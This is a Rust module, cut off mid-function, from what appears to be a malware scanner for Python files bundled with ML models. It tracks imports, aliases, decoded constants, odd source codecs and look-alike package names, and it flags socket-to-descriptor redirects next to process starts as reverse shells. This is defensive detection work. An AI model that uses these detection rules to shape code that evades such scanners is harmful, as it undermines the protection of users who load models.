//! Python source: what runs when it is imported, when a library loads the model that it belongs to, and when it is called.
//!
//! Names are followed through imports, aliases, `getattr`, `__import__`, `globals()` and constants that are put together; where a
//! value comes from (a decoder, the network, the environment, a file) goes with it. Ordinary model code starts no process, hides
//! no name and runs nothing that it decoded, so that what is stated here is about effects and their moment, not about words.
//!
//! # Why not a parser crate
//! Those for Python 3 refuse Python 2, build a tree by recursion, and weigh more than the rest of the scanner. Nothing here needs
//! a tree: expressions are folded as they are read, on explicit stacks.

pub mod effect;
pub mod lex;
pub mod value;

use super::{Format, Match};
use crate::bytes::{Pages, View};
use crate::error::Result;
use crate::fact::{Fact, When};
use crate::scan::Scan;
use effect::{Effect, Spot};
use lex::{Kind, Lexer, Token};
use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use value::{Value, What, origin};

/// A file of Python source.
pub const PYTHON: Format = Format { id: "python", name: "Python source", extensions: &["py", "pyw", "pth"], refines: &["text"], probe, read };

/// Source that is read; the largest modules of real libraries have under 2 MiB.
const LONGEST: u64 = 16 << 20;

/// Brackets inside one another; CPython stops at 200.
const NESTING: usize = 400;

/// Calls that are kept.
const CALLS: usize = 20_000;

/// Constants that are read as source themselves, and how deep.
const NESTED: usize = 200;
const NESTED_DEPTH: usize = 3;

/// Whether a text is Python: enough lines that only Python has, and few that it cannot have.
fn probe(view: View<'_>) -> Match {
    let Ok(head) = view.head(16 * 1024) else {
        return Match::No;
    };
    if head.contains(&0) {
        return Match::No;
    }
    // Nothing but Python names a codec for its source; in an odd one the text need not look like anything.
    if odd_codec(&head).is_some() {
        return Match::Sure;
    }
    match likeness(&head, (head.len() as u64) < view.len()) {
        // A text that opens a long string may be a module whose description is longer than the window.
        None => match view.head(1 << 20) {
            Ok(more) if more.len() > head.len() && likeness(&more, (more.len() as u64) < view.len()) == Some(true) => Match::Sure,
            _ => Match::No,
        },
        Some(true) => Match::Sure,
        Some(false) => Match::No,
    }
}

/// `None` if the window ends before anything could be told.
fn likeness(head: &[u8], cut: bool) -> Option<bool> {
    let shebang =
        head.starts_with(b"#!") && head.iter().take_while(|b| **b != b'\n').collect::<Vec<_>>().windows(6).any(|w| w.iter().map(|b| **b).eq(*b"python"));
    let mut lexer = Lexer::new(head);
    let (mut lines, mut strong, mut odd, mut calls) = (0usize, 0usize, 0usize, 0usize);
    let mut line: Vec<(Kind, &[u8])> = Vec::new();
    loop {
        let token = lexer.token_next();
        let word = head.get(token.at..token.end).unwrap_or(&[]);
        if matches!(token.kind, Kind::Newline | Kind::End) || token.kind == Kind::Op && word == b";" {
            if !line.is_empty() {
                lines += 1;
                calls += usize::from(line.windows(2).any(|w| matches!(w, [(Kind::Name, _), (Kind::Op, b"(")])));
                let other = matches!(line.first(), Some((_, b"`" | b"<")))
                    || line.windows(2).any(|w| matches!(w, [(Kind::Op, b"{"), (Kind::Op, b"%")] | [(Kind::Op, b"%"), (Kind::Op, b"}")]));
                // Markup, fenced text and templates begin lines as Python never does.
                odd += if other { 8 } else { 0 };
                match line_of_python(&line) {
                    Line::Strong => strong += 1,
                    Line::Odd => odd += 1,
                    Line::Plain => {}
                }
            }
            line.clear();
            if token.kind == Kind::End {
                break;
            }
        } else if !matches!(token.kind, Kind::Indent | Kind::Dedent) && line.len() < 4000 {
            line.push((token.kind, word));
        }
    }
    // The last line of a cut window may be cut itself. Without any sure line that excuses nothing: a pickled array is one long line in brackets.
    let excused = if cut { odd.saturating_sub(1) } else { odd };
    if lexer.open_string && cut && strong == 0 && excused <= lines / 10 {
        return None;
    }
    Some(shebang || strong > 0 && excused * 8 <= lines || calls > 0 && odd == 0)
}

enum Line {
    Strong,
    Plain,
    Odd,
}

/// Sorts one logical line: what only Python writes, what it may write, what it cannot.
fn line_of_python(line: &[(Kind, &[u8])]) -> Line {
    let word = |i: usize| line.get(i).filter(|t| t.0 == Kind::Name).map_or(&b""[..], |t| t.1);
    let last = line.last().map_or(&b""[..], |t| t.1);
    let name = |i: usize| !word(i).is_empty();
    let clean = adjacency(line) == 0 && !gives_to_call(line) && !line.iter().any(|t| t.0 == Kind::Bad && !matches!(t.1, [b'!', ..]));
    match word(0) {
        b"import" if name(1) && adjacency(line.get(1..).unwrap_or(&[])) == 0 && !line.iter().any(|t| matches!(t.1, b"{" | b"\"")) => Line::Strong,
        b"from"
            if line.iter().any(|t| t.1 == b"import")
                && line.iter().take_while(|t| t.1 != b"import").all(|t| t.0 == Kind::Name || matches!(t.1, b"." | b"...")) =>
        {
            Line::Strong
        }
        b"def" if name(1) && line.get(2).is_some_and(|t| matches!(t.1, b"(" | b"[")) && line.iter().any(|t| t.1 == b":") => Line::Strong,
        b"class" if name(1) && line.get(2).is_some_and(|t| matches!(t.1, b"(" | b":" | b"[")) && line.iter().any(|t| t.1 == b":") => Line::Strong,
        b"async" if matches!(word(1), b"def" | b"with" | b"for") => Line::Strong,
        b"if" | b"elif" | b"while" | b"with" | b"for" | b"try" | b"else" | b"finally" | b"except" if last == b":" => Line::Plain,
        b"exec" if line.get(1).is_some_and(|t| matches!(t.0, Kind::Text { .. }) || t.1 == b"(") => Line::Strong,
        b"print" | b"exec" | b"match" | b"case" | b"type" if line.len() > 1 => Line::Plain,
        // A call by itself: `name.name(…)`, also of what a call gives.
        w if clean && !w.is_empty() && last == b")" && calls_something(line) => Line::Strong,
        _ if clean => Line::Plain,
        _ => Line::Odd,
    }
}

/// `a.b.c(` at the beginning, or `x = a.b(`, the way a statement of a script does.
fn calls_something(line: &[(Kind, &[u8])]) -> bool {
    let from = line.iter().position(|t| t.1 == b"=").map_or(0, |i| i + 1);
    let rest = line.get(from..).unwrap_or(&[]);
    let path = rest.iter().take_while(|t| t.0 == Kind::Name || t.1 == b".").count();
    path > 0 && rest.get(path).is_some_and(|t| t.1 == b"(")
}

/// `NAME (…) = …`, which nothing of Python's may say, and lists of digests do: `SHA256 (model.bin) = …`.
fn gives_to_call(line: &[(Kind, &[u8])]) -> bool {
    let mut open = 0usize;
    line.first().is_some_and(|t| t.0 == Kind::Name)
        && line.windows(2).any(|w| {
            match w {
                [(_, b"(" | b"[" | b"{"), _] => open += 1,
                [(_, b")" | b"]" | b"}"), _] => open = open.saturating_sub(1),
                _ => {}
            }
            open == 0 && matches!(w, [(Kind::Op, b")"), (Kind::Op, b"=")])
        })
}

/// How often two operands stand side by side, which prose does all the time and Python never.
fn adjacency(line: &[(Kind, &[u8])]) -> usize {
    const JOINING: &[&[u8]] = &[
        b"and", b"or", b"not", b"in", b"is", b"if", b"else", b"for", b"lambda", b"await", b"yield", b"return", b"del", b"assert", b"raise", b"global",
        b"nonlocal", b"as", b"import", b"from", b"async", b"elif", b"while", b"with", b"except", b"class", b"def",
    ];
    let operand = |t: &(Kind, &[u8])| matches!(t.0, Kind::Number | Kind::Text { .. }) || t.0 == Kind::Name && !JOINING.contains(&t.1);
    line.windows(2)
        .filter(|w| matches!(w, [a, b] if operand(a) && operand(b) && !(matches!(a.0, Kind::Text { .. }) && matches!(b.0, Kind::Text { .. }))))
        .count()
}

fn read(view: View<'_>, scan: &mut Scan<'_>) -> Result<()> {
    if view.len() > LONGEST {
        scan.gap("limit-source");
    }
    let source = view.head(LONGEST as usize)?;
    scan.state(view, 0, view.len().min(16), Fact::Script { language: "Python", what: "code", when: When::Import, call: String::new() });
    encoding(view, &source, scan);
    inspect(&source, When::Import, view, &|at, end| (at as u64, end as u64), scan);
    super::packages::in_setup(view, &source, scan);
    // Other languages look like this one.
    if super::shell::is_foreign(scan.name()) {
        super::shell::foreign(view, scan)?;
    }
    super::secrets::inspect(view, scan)?;
    super::plain::hidden(view, scan)
}

/// A source may name the codec it is written in (PEP 263), and some codecs turn harmless text into other code.
fn encoding(view: View<'_>, source: &[u8], scan: &mut Scan<'_>) {
    if let Some((at, len, codec)) = odd_codec(source) {
        scan.state(view, at, len, Fact::Script { language: "Python", what: "odd-encoding", when: When::Import, call: codec });
        scan.gap("source-encoding");
    }
}

/// The line that names a codec which is not a plain character set, and the codec.
fn odd_codec(source: &[u8]) -> Option<(u64, u64, String)> {
    let mut at = 0u64;
    for line in source.split(|b| *b == b'\n').take(2) {
        let text = String::from_utf8_lossy(line);
        if text.trim_start().starts_with('#')
            && let Some((_, rest)) = text.split_once("coding")
            && let Some(name) = rest.strip_prefix([':', '='])
        {
            let codec: String = name.trim_start().chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')).collect();
            let plain: String = codec.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
            let read = [
                "utf8", "ascii", "latin", "iso8859", "cp12", "windows12", "usascii", "koi8", "gbk", "gb2312", "gb18030", "big5", "eucjp", "euckr", "shiftjis",
                "cp9", "mbcs",
            ]
            .iter()
            .any(|k| plain.starts_with(k));
            if !plain.is_empty() && !read {
                return Some((at, line.len() as u64, codec));
            }
        }
        at += line.len() as u64 + 1;
    }
    None
}

/// States what a source does that runs at the moment `when`. `place` says where offsets of the source stand in the view.
pub fn inspect(source: &[u8], when: When, view: View<'_>, place: &dyn Fn(usize, usize) -> (u64, u64), scan: &mut Scan<'_>) {
    let mut queue = vec![(source.to_vec(), when, None::<(usize, usize)>, 0usize)];
    let mut read = 0;
    while let Some((text, when, fixed, depth)) = queue.pop() {
        let mut walker = Walker::new(&text);
        walker.generates = scan.name().replace('\\', "/").ends_with("custom_generate/generate.py");
        walker.run();
        if walker.full {
            scan.gap("limit-source");
        }
        let moments = walker.moments(when);
        for found in std::mem::take(&mut walker.found) {
            let moment = walker.moment(&moments, &found);
            let Some(moment) = moment else { continue };
            let (at, end) = fixed.unwrap_or((found.at, found.end));
            let (from, to) = place(at, end);
            match found.inner {
                Some(inner) if found.what == "constant-pickle" => {
                    let pages = Pages::new(&inner);
                    scan.child("data in the source", View::of_inflated(&pages), !inner.is_ascii());
                }
                Some(inner) => {
                    read += 1;
                    if depth < NESTED_DEPTH && read < NESTED {
                        queue.push((inner, moment, Some((at, end)), depth + 1));
                    } else {
                        scan.gap("limit-source");
                    }
                }
                None => {
                    let call = text
                        .get(found.at..found.end.min(found.at + 400))
                        .map_or_else(String::new, |b| String::from_utf8_lossy(b).split_whitespace().collect::<Vec<_>>().join(" "));
                    scan.state(view, from, to.saturating_sub(from).max(1), Fact::Script { language: "Python", what: found.what, when: moment, call });
                }
            }
        }
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Guard {
    Always,
    /// Below `if __name__ == "__main__"`.
    Main,
    /// Below `if TYPE_CHECKING`.
    Never,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sort {
    Module,
    Class,
    Function,
}

/// A module, class or function.
struct Scope {
    sort: Sort,
    name: Rc<str>,
    parent: usize,
    guard: Guard,
    bases: Vec<String>,
    names: HashMap<Rc<str>, Value>,
    members: HashMap<Rc<str>, usize>,
    result: Option<Value>,
    /// Reading the attribute calls it.
    property: bool,
}

/// Something that a call does, before it is known when.
struct Found {
    at: usize,
    end: usize,
    scope: usize,
    guard: Guard,
    what: &'static str,
    /// A constant that is itself source or a pickle.
    inner: Option<Vec<u8>>,
}

/// The target of a call inside of the source.
enum Edge {
    Scope(usize),
    Name(Rc<str>),
    /// A method of a class, which may be defined further down.
    Member(usize, Rc<str>),
}

#[derive(Clone, Copy)]
struct Block {
    scope: usize,
    guard: Guard,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Bracket {
    Statement,
    Paren,
    List,
    Brace,
    Index,
    Call,
    Fstring,
    Field,
}

enum Operator {
    Binary(u8, &'static [u8]),
    Unary(u8),
    Lambda,
}

impl Operator {
    fn rank(&self) -> u8 {
        match self {
            Operator::Binary(rank, _) | Operator::Unary(rank) => *rank,
            Operator::Lambda => 1,
        }
    }
}

/// An open bracket with what stands in it so far.
struct Frame {
    bracket: Bracket,
    at: usize,
    callee: Option<Value>,
    items: Vec<(Option<Rc<str>>, Value)>,
    from: u16,
    keyword: Option<Rc<str>>,
    operands: Vec<Value>,
    operators: Vec<Operator>,
    /// An operand comes next.
    want: bool,
    lambdas: usize,
    colons: usize,
    comma: bool,
    text: Vec<u8>,
    loops: bool,
}

impl Frame {
    fn new(bracket: Bracket, at: usize) -> Frame {
        Frame {
            bracket,
            at,
            callee: None,
            items: Vec::new(),
            from: 0,
            keyword: None,
            operands: Vec::new(),
            operators: Vec::new(),
            want: true,
            lambdas: 0,
            colons: 0,
            comma: false,
            text: Vec::new(),
            loops: false,
        }
    }
}

const BINARY: &[(&[u8], u8)] = &[
    (b":=", 1),
    (b"or", 3),
    (b"and", 4),
    (b"in", 6),
    (b"is", 6),
    (b"<", 6),
    (b">", 6),
    (b"<=", 6),
    (b">=", 6),
    (b"==", 6),
    (b"!=", 6),
    (b"<>", 6),
    (b"|", 7),
    (b"^", 8),
    (b"&", 9),
    (b"<<", 10),
    (b">>", 10),
    (b"+", 11),
    (b"-", 11),
    (b"*", 12),
    (b"/", 12),
    (b"//", 12),
    (b"%", 12),
    (b"@", 12),
    (b"**", 14),
    (b"if", 2),
    (b"else", 2),
];

const ASSIGNING: &[&[u8]] = &[b"+=", b"-=", b"*=", b"/=", b"%=", b"&=", b"|=", b"^=", b"@=", b"**=", b"//=", b">>=", b"<<="];

struct Walker<'t> {
    src: &'t [u8],
    lexer: Lexer<'t>,
    ahead: Vec<Token>,
    frames: Vec<Frame>,
    scopes: Vec<Scope>,
    blocks: Vec<Block>,
    pending: Option<Block>,
    block: Block,
    stars: Vec<Rc<str>>,
    found: Vec<Found>,
    edges: Vec<(usize, Guard, Edge)>,
    /// Functions that were handed to one of this source, by the place that did.
    passed: Vec<(usize, Guard, usize, usize)>,
    /// What decorates the definition that follows.
    decorators: Vec<(Value, usize)>,
    downloads: HashSet<Vec<u8>>,
    /// The function that follows is decorated as a property.
    property: bool,
    /// transformers calls this file's `generate` in place of its own.
    generates: bool,
    opened: Option<Vec<u8>>,
    last_end: usize,
    full: bool,
    budget: usize,
}

impl<'t> Walker<'t> {
    fn new(src: &'t [u8]) -> Self {
        let module = Scope {
            sort: Sort::Module,
            name: "".into(),
            parent: 0,
            guard: Guard::Always,
            bases: Vec::new(),
            names: HashMap::new(),
            members: HashMap::new(),
            result: None,
            property: false,
        };
        let block = Block { scope: 0, guard: Guard::Always };
        Walker {
            src,
            lexer: Lexer::new(src),
            ahead: Vec::new(),
            frames: Vec::new(),
            scopes: vec![module],
            blocks: Vec::new(),
            pending: None,
            block,
            stars: Vec::new(),
            found: Vec::new(),
            edges: Vec::new(),
            passed: Vec::new(),
            decorators: Vec::new(),
            downloads: HashSet::new(),
            property: false,
            generates: false,
            opened: None,
            last_end: 0,
            full: false,
            budget: 64 << 20,
        }
    }

    fn next(&mut self) -> Token {
        let token = self.ahead.pop().unwrap_or_else(|| self.lexer.token_next());
        self.last_end = self.last_end.max(token.end);
        token
    }

    fn peek(&mut self) -> Token {
        let token = self.next();
        self.ahead.push(token);
        token
    }

    fn word(&self, token: Token) -> &'t [u8] {
        self.src.get(token.at..token.end).unwrap_or(&[])
    }

    fn is(&self, token: Token, op: &[u8]) -> bool {
        matches!(token.kind, Kind::Op | Kind::Name) && self.word(token) == op
    }

    fn ident(&mut self, token: Token) -> Rc<str> {
        let (name, disguised) = lex::identifier(self.word(token));
        if disguised && effect::telling(&name) {
            self.note("disguised-name", token.at, token.end);
        }
        name.into()
    }

    fn note(&mut self, what: &'static str, at: usize, end: usize) {
        self.note_inner(what, at, end, None);
    }

    fn note_inner(&mut self, what: &'static str, at: usize, end: usize, inner: Option<Vec<u8>>) {
        if self.found.len() >= CALLS {
            self.full = true;
            return;
        }
        self.found.push(Found { at, end: end.max(at), scope: self.block.scope, guard: self.block.guard, what, inner });
    }

    fn edge(&mut self, edge: Edge) {
        if self.edges.len() < 10 * CALLS {
            self.edges.push((self.block.scope, self.block.guard, edge));
        } else {
            self.full = true;
        }
    }

    fn run(&mut self) {
        self.lines();
        // A connection put in the place of a file descriptor is a shell for somebody else where a program follows.
        let starts: HashSet<usize> = self.found.iter().filter(|f| matches!(f.what, "process" | "process-unknown")).map(|f| f.scope).collect();
        self.found.retain_mut(|f| {
            let redirect = f.what == "redirect";
            if redirect {
                f.what = "reverse-shell";
            }
            !redirect || starts.contains(&f.scope)
        });
    }

    fn lines(&mut self) {
        loop {
            let token = self.next();
            match token.kind {
                Kind::End => return,
                Kind::Indent => {
                    let inner = self.pending.take().unwrap_or(self.block);
                    self.blocks.push(self.block);
                    self.block = inner;
                }
                Kind::Dedent => {
                    self.pending = None;
                    if let Some(outer) = self.blocks.pop() {
                        self.block = outer;
                    }
                }
                Kind::Newline => {}
                _ => {
                    self.pending = None;
                    self.line(token);
                }
            }
        }
    }

    /// One logical line: statements, and the body behind a header's colon.
    fn line(&mut self, first: Token) {
        let outer = self.block;
        let mut token = first;
        let mut inner = None;
        loop {
            self.statement(token, &mut inner);
            let mut end = self.next();
            // What could not be made sense of ends with its line.
            while !(matches!(end.kind, Kind::Newline | Kind::End) || self.is(end, b";") || self.is(end, b":")) {
                if matches!(end.kind, Kind::Indent | Kind::Dedent) {
                    self.ahead.push(end);
                    break;
                }
                self.frames.clear();
                let at = end.at;
                self.ahead.push(end);
                let _ = self.expression(false);
                end = self.next();
                // A sign that no expression begins with or goes on with is left behind.
                if end.at == at && !matches!(end.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                    end = self.next();
                }
            }
            if matches!(end.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                break;
            }
            if self.is(end, b":")
                && let Some(block) = inner.take()
            {
                if self.peek().kind == Kind::Newline {
                    self.pending = Some(block);
                    continue_to_newline(self);
                    break;
                }
                self.block = block;
            }
            token = self.next();
            if matches!(token.kind, Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent) {
                if token.kind != Kind::Newline {
                    self.ahead.push(token);
                }
                break;
            }
        }
        self.block = outer;
    }

    fn statement(&mut self, first: Token, inner: &mut Option<Block>) {
        let word = if first.kind == Kind::Name { self.word(first) } else { b"" };
        match word {
            b"import" => self.import(),
            b"from" => self.import_from(),
            b"def" => *inner = Some(self.def()),
            b"async" => {
                let next = self.next();
                match self.word(next) {
                    b"def" => *inner = Some(self.def()),
                    _ => self.statement_plain(next, inner),
                }
            }
            b"class" => *inner = Some(self.class()),
            _ if self.is(first, b"@") => {
                let (v, _) = self.expression(false);
                self.property |= v.name.as_deref().is_some_and(|n| matches!(n.rsplit('.').next(), Some("property" | "cached_property" | "getter")));
                if matches!(v.what, What::Path(_) | What::Local(_)) {
                    self.decorators.push((v, self.last_end));
                }
            }
            _ => self.statement_plain(first, inner),
        }
    }

    fn statement_plain(&mut self, first: Token, inner: &mut Option<Block>) {
        let word = if first.kind == Kind::Name { self.word(first) } else { b"" };
        match word {
            b"if" | b"elif" | b"while" => {
                let (_, stop) = self.expression(false);
                let header = self.src.get(first.at..stop.at).unwrap_or(&[]);
                let holds = |needle: &[u8]| header.len() < 400 && header.windows(needle.len()).any(|w| w == needle);
                let guard = if holds(b"__name__") && holds(b"__main__") && !holds(b" or ") && !holds(b"__name__ !=") && !holds(b"__name__!=") && !holds(b"not")
                {
                    Guard::Main
                } else if header.len() < 60 && holds(b"TYPE_CHECKING") && !holds(b"not") && !holds(b" or ") {
                    Guard::Never
                } else {
                    self.block.guard
                };
                let guard = if self.block.guard == Guard::Always { guard } else { self.block.guard };
                *inner = Some(Block { scope: self.block.scope, guard });
            }
            b"else" | b"try" | b"finally" => *inner = Some(self.block),
            b"for" => {
                let (target, stop) = self.expression(true);
                if self.is(stop, b"in") {
                    self.next();
                    let (list, _) = self.expression(false);
                    let item = value::index(&list, &[Value::unknown(0, first.at)], 0, first.at);
                    self.assign(&target, &item);
                }
                *inner = Some(self.block);
            }
            b"with" | b"except" => {
                loop {
                    let (v, stop) = self.expression(false);
                    if let What::Instance(class) = v.what
                        && word == b"with"
                    {
                        self.edge(Edge::Member(class, "__enter__".into()));
                        self.edge(Edge::Member(class, "__exit__".into()));
                    }
                    if !self.is(stop, b"as") {
                        break;
                    }
                    self.next();
                    let (target, stop) = self.expression(false);
                    self.assign(&target, &v);
                    if !self.is(stop, b",") {
                        break;
                    }
                }
                *inner = Some(self.block);
            }
            b"return" | b"yield" => {
                let (v, _) = self.expression(false);
                let scope = self.block.scope;
                if let Some(s) = self.scopes.get_mut(scope)
                    && s.result.as_ref().is_none_or(|r| r.from & !origin::UNKNOWN == 0)
                {
                    s.result = Some(v);
                }
            }
            b"del" | b"assert" | b"raise" | b"await" | b"global" | b"nonlocal" | b"print" if { self.plain_follows() || word != b"print" } => {
                let _ = self.expression(false);
            }
            // Python 2's statement.
            b"exec" if self.plain_follows() => {
                let (v, _) = self.expression(true);
                let end = self.last_end;
                self.call(Value::path("exec", 0, first.at), vec![(None, v)], first.at, end);
            }
            b"pass" | b"break" | b"continue" => {}
            b"match" | b"case" | b"type" if self.plain_follows() => {
                let _ = self.expression(false);
                *inner = Some(self.block);
            }
            _ => {
                self.ahead.push(first);
                self.simple();
            }
        }
    }

    /// Whether an operand follows without a sign between: then the word before it is a statement's.
    fn plain_follows(&mut self) -> bool {
        let token = self.peek();
        matches!(token.kind, Kind::Text { .. } | Kind::Number | Kind::FOpen) || token.kind == Kind::Name && !BINARY.iter().any(|b| b.0 == self.word(token))
    }

    /// Assignments and expressions.
    fn simple(&mut self) {
        let mut targets: Vec<Value> = Vec::new();
        loop {
            let (v, stop) = self.expression(false);
            if self.is(stop, b"=") {
                self.next();
                targets.push(v);
                continue;
            }
            if stop.kind == Kind::Op && ASSIGNING.contains(&self.word(stop)) {
                let op = self.word(stop);
                self.next();
                let (right, _) = self.expression(false);
                let sum = match op {
                    b"+=" => self.fold(b"+", v.clone(), right),
                    _ => Value::unknown(v.from | right.from, v.at),
                };
                self.assign(&v, &sum);
                return;
            }
            if self.is(stop, b":") && targets.is_empty() {
                // An annotation: `name: type = value`.
                self.next();
                let (_, after) = self.expression(false);
                if self.is(after, b"=") {
                    self.next();
                    let (right, _) = self.expression(false);
                    self.assign(&v, &right);
                }
                return;
            }
            for t in &targets {
                self.assign(t, &v);
            }
            return;
        }
    }

    fn fold(&mut self, op: &'static [u8], a: Value, b: Value) -> Value {
        let cost = a.bytes().map_or(16, <[u8]>::len) + b.bytes().map_or(16, <[u8]>::len);
        if self.budget < cost {
            self.full = true;
            return Value::unknown(a.from | b.from, a.at);
        }
        self.budget -= cost;
        value::combine(op, a, b)
    }

    fn assign(&mut self, target: &Value, v: &Value) {
        if let What::Seq(parts) = &target.what {
            for (i, part) in parts.iter().enumerate() {
                let piece = match &v.what {
                    What::Seq(values) if values.len() == parts.len() => values.get(i).cloned(),
                    _ => None,
                };
                if let Some(name) = &part.name {
                    self.bind(name.clone(), piece.unwrap_or_else(|| Value::unknown(v.from, v.at)));
                }
            }
            return;
        }
        // An object in the place of a module: whoever imports that asks it for names.
        if let (What::Path(p), What::Instance(class)) = (&target.what, &v.what)
            && &**p == "sys.modules"
        {
            self.edge(Edge::Member(*class, "__getattr__".into()));
            self.edge(Edge::Member(*class, "__getattribute__".into()));
        }
        if let Some(name) = &target.name {
            self.bind(name.clone(), v.clone());
        }
    }

    fn bind(&mut self, name: Rc<str>, mut v: Value) {
        v.literal = false;
        v.name = None;
        let mut scope = self.block.scope;
        if name.starts_with("self.")
            && let Some(class) = self.class_of(scope)
        {
            scope = class;
        }
        if let Some(s) = self.scopes.get_mut(scope)
            && s.names.len() < 100_000
        {
            // A name that is bound twice is what it was worth most as: either may run.
            match s.names.get_mut(&name) {
                Some(old)
                    if v.from & !origin::UNKNOWN == 0
                        && old.from & !origin::UNKNOWN != 0
                        && !matches!(v.what, What::Path(_) | What::Local(_) | What::Text(_)) => {}
                Some(old) => *old = v,
                None => {
                    s.names.insert(name, v);
                }
            }
        }
    }

    /// Calls the decorators of what was just defined.
    fn decorate(&mut self, id: usize) {
        for (v, end) in std::mem::take(&mut self.decorators) {
            let at = v.at;
            self.call(v, vec![(None, Value::new(What::Local(id), origin::UNKNOWN, at))], at, end);
        }
    }

    fn class_of(&self, scope: usize) -> Option<usize> {
        let parent = self.scopes.get(scope)?.parent;
        (self.scopes.get(parent)?.sort == Sort::Class).then_some(parent)
    }

    fn dotted(&mut self) -> (String, Token) {
        let mut out = String::new();
        loop {
            let token = self.next();
            if token.kind == Kind::Name && !matches!(self.word(token), b"import" | b"as") {
                let name = self.ident(token);
                // A package by the name of another one, but for letters of Greek or Cyrillic that look the same.
                if name.chars().any(|c| c.is_ascii_alphabetic()) && name.chars().any(|c| matches!(c, '\u{370}'..='\u{52f}')) {
                    self.note("disguised-name", token.at, token.end);
                }
                out.push_str(&name);
            } else if self.is(token, b".") || self.is(token, b"...") {
                out.push_str(&String::from_utf8_lossy(self.word(token)));
            } else {
                return (out, token);
            }
        }
    }

    fn import(&mut self) {
        loop {
            let (path, mut stop) = self.dotted();
            let mut name: Rc<str> = path.split('.').next().unwrap_or("").into();
            let mut value = Value::path(&effect::normal(&name), 0, stop.at);
            if self.is(stop, b"as") {
                let token = self.next();
                name = self.ident(token);
                value = Value::path(&effect::normal(&path), 0, stop.at);
                stop = self.next();
            }
            self.bind(name, value);
            if !self.is(stop, b",") {
                self.ahead.push(stop);
                return;
            }
        }
    }

    fn import_from(&mut self) {
        let (module, stop) = self.dotted();
        if !self.is(stop, b"import") {
            self.ahead.push(stop);
            return;
        }
        loop {
            let token = self.next();
            if self.is(token, b"*") {
                if self.stars.len() < 100 {
                    self.stars.push(module.as_str().into());
                }
                return;
            }
            if self.is(token, b"(") || self.is(token, b",") || self.is(token, b")") {
                continue;
            }
            if token.kind != Kind::Name {
                self.ahead.push(token);
                return;
            }
            let mut name = self.ident(token);
            let path = effect::normal(&if module.ends_with('.') { format!("{module}{name}") } else { format!("{module}.{name}") });
            let after = self.next();
            if self.is(after, b"as") {
                let token = self.next();
                name = self.ident(token);
            } else {
                self.ahead.push(after);
            }
            let from = if path == "os.environ" { origin::ENV_ALL } else { 0 };
            self.bind(name, Value::path(&path, from, token.at));
        }
    }

    fn scope(&mut self, sort: Sort, name: Rc<str>, bases: Vec<String>) -> usize {
        let parent = self.block.scope;
        let id = self.scopes.len();
        self.scopes.push(Scope {
            sort,
            name: name.clone(),
            parent,
            guard: self.block.guard,
            bases,
            names: HashMap::new(),
            members: HashMap::new(),
            result: None,
            property: false,
        });
        if let Some(p) = self.scopes.get_mut(parent) {
            p.members.insert(name.clone(), id);
        }
        self.bind(name, Value::new(What::Local(id), 0, 0));
        id
    }

    fn def(&mut self) -> Block {
        let token = self.next();
        let name = self.ident(token);
        // The parameters: defaults and annotations run where the function is defined.
        let (v, _) = self.expression(false);
        let id = self.scope(Sort::Function, name, Vec::new());
        let class = self.class_of(id);
        let params: Vec<Rc<str>> = match &v.what {
            What::Seq(s) => s.iter().filter_map(|p| p.name.clone()).collect(),
            _ => v.name.clone().into_iter().collect(),
        };
        let property = std::mem::take(&mut self.property);
        if let Some(s) = self.scopes.get_mut(id) {
            s.property = property;
            for (i, p) in params.into_iter().enumerate() {
                let what = match class {
                    Some(class) if i == 0 => What::Instance(class),
                    _ => What::Unknown,
                };
                s.names.insert(p, Value::new(what, origin::UNKNOWN, token.at));
            }
        }
        self.decorate(id);
        // Behind `->` an annotation, which runs as well.
        let next = self.peek();
        if self.is(next, b"->") {
            self.next();
            let _ = self.expression(false);
        }
        Block { scope: id, guard: Guard::Always }
    }

    fn class(&mut self) -> Block {
        let token = self.next();
        let name = self.ident(token);
        let next = self.peek();
        let mut bases = Vec::new();
        if !self.is(next, b":") {
            let (v, _) = self.expression(false);
            let single = [v.clone()];
            let parts: &[Value] = match &v.what {
                What::Seq(s) => s,
                _ => &single,
            };
            // Defining a class runs these of the class above it, or of its metaclass.
            for base in parts {
                if let What::Local(above) = base.what {
                    for hook in ["__init_subclass__", "__prepare__"] {
                        self.edge(Edge::Member(above, hook.into()));
                    }
                    if base.name.as_deref() == Some("metaclass") {
                        for hook in ["__new__", "__init__", "__call__"] {
                            self.edge(Edge::Member(above, hook.into()));
                        }
                    }
                }
            }
            bases = parts.iter().filter_map(|b| b.name.as_ref().map(|n| n.to_string()).or_else(|| b.as_path().map(str::to_string))).collect();
        }
        self.property = false;
        let id = self.scope(Sort::Class, name, bases);
        self.decorate(id);
        Block { scope: id, guard: self.block.guard }
    }

    /// Reads one expression (with commas: a tuple) up to a token that no expression holds at this level, which stays ahead.
    fn expression(&mut self, target: bool) -> (Value, Token) {
        let start = self.peek();
        self.frames.clear();
        self.frames.push(Frame::new(Bracket::Statement, start.at));
        loop {
            let token = self.next();
            let top = self.frames.len() == 1;
            let lambda = self.frames.last().is_some_and(|f| f.lambdas > 0);
            let ends = match token.kind {
                Kind::Newline | Kind::End | Kind::Indent | Kind::Dedent => true,
                Kind::Op if top && !lambda => {
                    matches!(self.word(token), b";" | b":" | b"=" | b"->" | b")" | b"]" | b"}") || ASSIGNING.contains(&self.word(token))
                }
                Kind::Name if top => matches!(self.word(token), b"as" | b"import") || target && self.word(token) == b"in",
                _ => false,
            };
            // A closing bracket that nothing opened is skipped.
            if top && token.kind == Kind::Op && matches!(self.word(token), b")" | b"]" | b"}") {
                continue;
            }
            if ends {
                self.ahead.push(token);
                while self.frames.len() > 1 {
                    self.close(token.at);
                }
                let Some(frame) = self.frames.pop() else {
                    return (Value::unknown(0, start.at), token);
                };
                return (self.finish(frame), token);
            }
            self.take(token);
            if self.frames.len() > NESTING {
                self.full = true;
                self.frames.truncate(1);
            }
        }
    }

    fn take(&mut self, token: Token) {
        let word = self.word(token);
        match token.kind {
            Kind::Text { raw, bytes } => {
                let text = lex::unescape(word, raw, bytes, value::CONSTANT + 1);
                let mut v = Value::text(&text, 0, token.at.saturating_sub(1));
                v.literal = true;
